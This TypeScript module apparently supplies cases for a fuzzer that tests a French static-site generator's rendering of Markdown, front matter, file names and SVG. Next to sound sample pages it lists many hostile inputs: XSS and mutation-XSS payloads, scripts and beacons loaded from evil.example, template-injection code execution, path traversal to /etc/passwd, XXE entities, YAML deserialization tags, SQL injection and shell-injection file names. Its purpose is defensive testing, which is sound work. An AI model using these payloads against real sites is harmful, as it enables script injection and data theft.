/** What the fuzzer makes its cases from: sound documents, and pieces that have done harm somewhere. */

/** What no published file may hold: it is written outside of the content only. */
export const SECRET = "la clé du coffre 7f3a9c";

/** A global variable that code run from content would set. */
export const CODE_RUN = "__codeRunFromContent";

/** Where the cases may point outside, from the content's folder. */
export const OUTSIDE = "../../outside/secret.md";

const CODE = `globalThis.${CODE_RUN} = true`;

/** A sound document of each collection: front matter, then text. */
export const DOCUMENTS: Readonly<Record<string, readonly string[]>> = {
  pages: [
    '---\ntitle: Une page\ndescription: Ce qu’elle dit.\nsummary: Un chapeau *léger*.\n---\n\n## Un titre\n\nUn texte avec un [lien](/programme/), une ![image](/img/a.svg "Titre") et du `code`.\n\n- un\n- deux\n  1. trois\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n',
    '---\nlayout: with-sidebar\nsidebar: sidebar-demarche\ntitle: "Une démarche : suite"\nredirect_from: [/ancienne-N/, /vieille-N]\n---\n\n:::mise-en-avant\nUn **texte**.\n:::\n\n:::accordeon[Question ?]\nRéponse.\n:::\n\n<div class="a" style="color:red"><p>Brut</p></div>\n',
    '---\nlayout: default\ntitle: Libre\n---\n\n# Le titre\n\n```js\nconst a = "<b>";\n```\n\n> Une citation[^1].\n\n<details><summary>Plus</summary>\n\nTexte\n\n</details>\n',
    "---\ntitle: Rencontre\nlang: en\nevenement: { debut: 2026-12-03 14:30, fin: 2026-12-03 18:00, lieu: Paris }\npublish_at: 2026-01-01\nbreadcrumbs:\n  - title: Accueil\n    link: /\n---\n\nSee <https://example.org/?a=1&b=2> and :bouton[here](/programme/).\n",
    '---\npermalink: /adresse-N/\ntitle: Adresse\nimage: /img/b.png\nimage_alt: Un carré\nrobots: noindex\n---\n\n<iframe src="https://www.youtube-nocookie.com/embed/x" title="Film"></iframe>\n\n<img src="/img/b.png" alt="" width="10">\n',
  ],
  posts: [
    "---\ntitle: Un article\ndate: 2026-03-04\ncategories: general articles\nauthors: [ada.lovelace]\ntags: [mesure, été]\nexcerpt: Un *chapeau*.\n---\n\nUn texte.\n\n## Suite\n\nDes mots « cités » — et d’autres.\n",
    "---\ntitle: Un autre\ncategories:\n  - dinsic\nimage: /img/b.png\n---\n\n![](/img/b.png)\n\nTexte, puis [un lien](https://exemple.gouv.fr/adresse-1/#top).\n",
  ],
  startups: [
    "---\ntitle: Produit N\nmission: Aider *chacun*.\nincubator: essais\ncontact: produit@exemple.gouv.fr\nphases:\n  - name: construction\n    start: 2024-01-01\n---\n\n## Le problème\n\nUn texte.\n",
  ],
  incubators: [
    "---\ntitle: Incubateur N\nowner: /organisations/essais\ncontact: incubateur@exemple.gouv.fr\nshort_description: Une *phrase*.\n---\n\nUn texte.\n",
  ],
  members: [
    "---\nfullname: Ada N\nrole: Développeuse\ndomaine: Développement\nmissions:\n  - start: 2024-01-01\n    status: independent\n    startups: [essai]\n---\n\nUn texte.\n",
  ],
};

/** Addresses, good and bad. */
// biome-ignore format: a list of pieces is read as a whole
export const ADDRESSES: readonly string[] = [
  "/", "/programme/", "/adresse-1/", "#top", "?q=1", "/img/a.svg", "/img/b.png", "https://example.org/",
  "//example.org/x", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
  "&#106;avascript:alert(1)", "\u0001javascript:alert(1)", "javascript&colon;alert(1)", "vbscript:x",
  "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd", "/../../etc/passwd", OUTSIDE, "..\\..\\x", "\\\\example.org\\x", "/\\example.org",
  "http:\\example.org", "https://exemple.gouv.fr@evil.example/",
  "https://www.youtube-nocookie.com.evil.example/", "https://www.youtube-nocookie.com/embed/x",
  'mailto:a@b.fr?subject="><script>', "tel:+33", "/%2e%2e/x", "/%00", "/a b", "/é", "/e\u0301", "x", "", " ",
  "https://[", "http://a:99999/", "blob:https://x/y", "ftp://x/", "intent://x", "/feed.xml", "/feed.xml/",
  "/_headers", "/404", "/assets/main.css", "/x.md", "https://",
];

const handlers = ["onclick", "onerror", "ONLOAD", "onfocus\u0000", "on\u200bload", "onpointerenter"];

/** Raw HTML that must not come out as it is. */
// biome-ignore format: a list of pieces is read as a whole
export const HTML: readonly string[] = [
  `<script>${CODE}</script>`, "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</script>", ...handlers.map((name) => `<img src=x ${name}=alert(1)>`),
  "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,x#a"/></svg>', "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
  "<svg><desc></svg><img src=x onerror=alert(1)></desc>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>", "<title><script>x</script></title>",
  "<select><option><script>alert(1)</script></select>", "<select><img src=x onerror=alert(1)></select>",
  "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<iframe src=https://evil.example/></iframe>", "<object data=x></object>", "<embed src=x>",
  "<base href=//evil.example/>", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=a></form>",
  "<button formaction=javascript:alert(1)>x</button>", "<style>*{background:url(//evil.example)}</style>",
  '<p style="background:url(//evil.example)">x</p>', '<p style="position:fixed;inset:0">x</p>',
  "<p style='color:red;}*{color:blue'>x</p>", '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<a href='/x' target=_blank ping=//evil.example>x</a>", "<video poster=javascript:alert(1) src=/x></video>",
  "<audio src=//evil.example/x></audio>", "<details open ontoggle=alert(1)>x</details>",
  "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html>",
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "</main></body></html>", '<p "onclick=alert(1)>x</p>',
  '<p a="b"onclick=alert(1)>x</p>', "<p a=`onclick=alert(1)>x</p>", "<a/href=/x/onclick=alert(1)>x</a>",
  "<p id=content>x</p>", '<div id="top"><div id=top>', "<b><i></b></i>", "<table><tr><td><p></table>",
  "<a href=/x><a href=/y>z</a></a>", "<p><div></p></div>", "<plaintext>x", "<xmp><script>",
  "<template><script>alert(1)</script></template>", "<slot name=x></slot>", "<dialog open>x</dialog>",
  "<marquee onstart=alert(1)>x</marquee>", "<custom-element onclick=x></custom-element>", "<p is=x>y</p>",
  "<img srcset=\"//evil.example/x 1x\" alt=''>",
  "<picture><source srcset=//evil.example/x><img src=/img/b.png alt=''></picture>", "<br/onclick=alert(1)>",
  "<h1>Titre</h1>", "<h2 id=footer>x</h2>", "<input type=image src=//evil.example/x>",
  "<p data-video-src=javascript:alert(1)>x</p>",
];

/** Markdown that readers of Markdown have stumbled over. */
// biome-ignore format: a list of pieces is read as a whole
export const MARKDOWN: readonly string[] = [
  "[a]: javascript:alert(1)\n\n[a]", '![x](x "onerror=alert(1)")', "[x](</a b>)", "[x](/a 'b\"c')",
  "![[x](/y)](/z)", "[[x]](/y)", "[x][]", "[^1]: note", "<a@b.fr>", "<x:y>", "***a**b*", "**a*b**c*", "~~~\n",
  "```html\n<script>x</script>\n```", "``` js {1}\nx", "    indenté", "# ", "####### x", "Titre\n===",
  "Titre\n---", "---", "***", "- - -", "| a |\n| - |\n| `|` \\| |", "| a | b |\n|:-:|", "a|b\n-|-\n1|2|3|4",
  "1. a\n1) b\n+ c\n* d", "- [ ] x", "9999999999. x", "> > > a\n>\n> b", "\\\\<script\\>", "&lt;script&gt;",
  "&#0;&#x110000;&#xD800;&bogus;", "{{ 7 * 7 }}", `{{ range.constructor("${CODE}")() }}`,
  '{% include "../../outside/secret.md" %}', "{% raw %}{{ x }}", "{#", "<%= 7 * 7 %>",
  "## Titre {#content}", "## Titre {#top}", "## a {#é}", "## {#x}", ":::\n", "::::\n:::", ":::inconnu\n:::",
  ":::alerte{type=grave}\nx\n:::", ":::alerte[\n:::", ':::alerte{type="info" x}\nx\n:::',
  ":::onglets\n:::onglet[A]\nx\n:::\n:::onglet[B]\ny\n:::\n:::", ":::onglet[A]\nx\n:::",
  ":::carte[Titre](javascript:alert(1))\nx\n:::", ":::carte[<script>](/x)\nx\n:::",
  ":::citation[Qui](/img/b.png)\nx\n:::", ":::video[Film](https://evil.example/)\n:::",
  ":::video[Film](https://www.youtube-nocookie.com/embed/x)\n:::",
  ":::graphique[G]\n| a | b |\n| - | - |\n| x | 1e999 |\n:::",
  ":::graphique[G]\n| a | b |\n| - | - |\n| x | -5 |\n| y | 0 |\n:::", ":::transcription[T]\nx\n:::",
  ":::chiffres\n- 5 : x\n:::", ":::frise\n- 2020 : x\n:::", ":bouton[x](javascript:alert(1))", ":bouton[",
  ":terme[impact]", ":terme[<b>]", ":badge[x]{type=new}", ":lien[x](/y){a=b}", ":icone[x]", "::sommaire",
  "::mesure-audience", ":::mesure-audience\n:::",
];

/** Values of front matter, as written after `key: `. */
// biome-ignore format: a list of pieces is read as a whole
export const VALUES: readonly string[] = [
  "", "~", "null", "true", "no", "0", "-1", "1.5", ".inf", ".nan", "0x1F", "1e400", "12345678901234567890",
  "2024-13-45", "2026-02-30", "31/12/2026", "2999-01-01", "0000-00-00", "2026-09-15T99:99:99Z", "hier", "[]",
  "{}", "[a, null, 3, {x: y}]", "{a: b}", "[[[]]]", "[, ,]", "- a", "|\n  bloc\n  suite", ">-\n  plié",
  '"\\u0000"', '"\\u202e"', '"\\x1b[31m"', '"\\ud800"', "'", '"', "[", "{", "a: b: c", "@x", "%x", "`x`",
  "!!js/function 'x'", "!!python/object:os.system x", "!!binary aGk=", "&a [*a]", "*inconnu", "<<: {x: y}",
  "x # commentaire", "#", "\tx", "é".repeat(300), "</title><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>', "'; DROP TABLE pages; --", "{{ 7*7 }}", '"{{ 7*7 }}"',
  "\"{% include '../../outside/secret.md' %}\"", OUTSIDE, "/etc/passwd", "../../../etc/passwd", "..", ".",
  "/", "//", "/a//b", "/../x", "/x/../../y", '"/a\\u0000b"', "/feed.xml/", "/img/x.png/", "/404", "/404.html",
  "/index.html", "/INDEX.html", "/programme/", "/Programme/", "/a%2fb", "/a?b", "/a#b", '"/a\\nb"', "/é",
  "/e\u0301", "/CON", "/a:b", "/_redirects/", "/.git/config", "/.htaccess", "constructor", "__proto__",
  "toString", "hasOwnProperty", "fr", "xx", "FR-fr", "with-sidebar", "home", "blog", "recherche", "startups",
  "annuaire", "stats", "api", "accessibilite", "sidebar-demarche", "sidebar-fast", "main.css",
  "https://styles.example.org/x.css", "https://evil.example/x.css", "x.js", "../x.js",
];

/** Keys that front matter may hold, and some that it may not. */
// biome-ignore format: a list of pieces is read as a whole
export const KEYS: readonly string[] = [
  "layout", "title", "subtitle", "description", "image", "image_alt", "lang", "traduction", "robots",
  "additional_css", "additional_js", "redirect_from", "evenement", "draft", "publish_at", "hero_title",
  "summary", "permalink", "sidebar", "breadcrumbs", "redirect_to", "date", "authors", "categories", "tags",
  "excerpt", "mission", "owner", "incubator", "contact", "phases", "sponsors", "link", "repository",
  "fullname", "missions", "github", "avatar", "logo", "highlighted_startups", "hidden", "thematiques",
  "usertypes", "techno", "events", "fast", "rgpd", "__proto__", "constructor", "page", "collections",
  "eleventy", "eleventyComputed", "templateEngineOverride", "pagination", "permalinkBypassOutputDir", "tag",
  "titel", '"a b"', "? x", "<<", "1", "'é'",
];

/** Characters that are not what they look like, or that mean something somewhere. */
// biome-ignore format: a list of pieces is read as a whole
export const CHARACTERS: readonly string[] = [
  "<", ">", '"', "'", "&", "`", "*", "_", "~", "[", "]", "(", ")", "{", "}", "|", "#", "!", ":", "::", ":::",
  "\\", "/", "=", "%", "$", "@", "^", "+", "-", "--", "---", "…", "«", "»", "’", "\u00a0", "\u202f", "\u200b",
  "\u200d", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u0301", "\u0301".repeat(40), "😀", "👩‍👩‍👧", "\u{1D400}",
  "\u{E0041}", "ﬁ", "İ", "ß", "Ǆ", "١", "字", "\n", "\n\n", "\t", "    ", "  \n", "\r\n", "0", "1", "a", "é",
  "<!--", "-->", "<![CDATA[", "]]>", "<b>", "</b>", "<div>", "</div>", "<p ", "/>", "javascript:", "http://",
  "{{", "}}", "{%", "%}",
];

/** Characters that no text may hold. */
export const FORBIDDEN: readonly string[] = [
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\u202e",
  "\u2066",
  "\r",
];

/** Parts of file names. */
// biome-ignore format: a list of pieces is read as a whole
export const NAMES: readonly string[] = [
  "x", "index", "404", "é", "e\u0301", "Été à Paris", "a b", "a#b", "a?b", "100%", "a:b", "a*b", "a\nb",
  "a\tb", "<img onerror=x>", '"', "'", "\\", "a\\b", "..", "...", ".", "-", "--", "_", "CON", "aux",
  "x".repeat(190), "x".repeat(240), "é".repeat(120), "x.html", "x.md", "x.njk", "x.11ty", "x.11tydata",
  "feed.xml", "robots.txt", "_headers", "__proto__", "constructor", "2026-01-01-x", "2026-13-45-x",
  "2026-01-01-", "2026-01-01-..", "page", "categorie", "img", "api", "assets", "\u202e", "\u200b", "😀", "~",
  "$HOME", "`id`", ";ls", "&", "{{7*7}}", "%2e%2e", "İ", "ß", "ﬁ",
];

/** Extensions of file names. */
// biome-ignore format: a list of pieces is read as a whole
export const EXTENSIONS: readonly string[] = [
  ".md", ".md", ".md", ".md", ".md", ".md", ".md", ".MD", ".md~", ".mdx", ".html", ".njk", ".liquid",
  ".11ty.js", ".11tydata.js", ".json", ".yml", ".png", "", ".md.md",
];

/** Drawings, sound and not. */
export const DRAWINGS: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9z"/></svg>',
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${CODE}</script></svg>`,
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"/>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><a href="javascript:alert(1)"><path/></a></svg>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">&x;</svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="-1"/>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 0"/>',
  "<svg",
  "",
  "<html><script>alert(1)</script></html>",
];
